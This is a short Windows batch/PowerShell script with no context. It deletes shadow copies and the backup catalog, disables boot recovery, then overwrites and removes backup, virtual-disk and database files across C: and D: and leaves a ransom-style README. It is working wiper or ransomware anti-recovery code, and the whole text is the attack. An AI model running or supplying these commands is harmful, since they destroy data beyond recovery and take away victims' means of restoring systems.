vssadmin.exe delete shadows /all /quiet
wmic shadowcopy delete /nointeractive
bcdedit /set '{default}' recoveryenabled No
bcdedit /set '{default}' bootstatuspolicy ignoreallfailures
wbadmin delete catalog -quiet
Get-ChildItem -Path C:\,D:\ -Recurse -Include *.vhd,*.vhdx,*.bak,*.bkf,*.tib,*.sql,*.mdf -ErrorAction SilentlyContinue |
  ForEach-Object { [IO.File]::WriteAllBytes($_.FullName, (New-Object byte[] 1024)); Remove-Item $_.FullName -Force }
Set-Content -Path C:\Users\Public\README.txt -Value "Your files were reset."
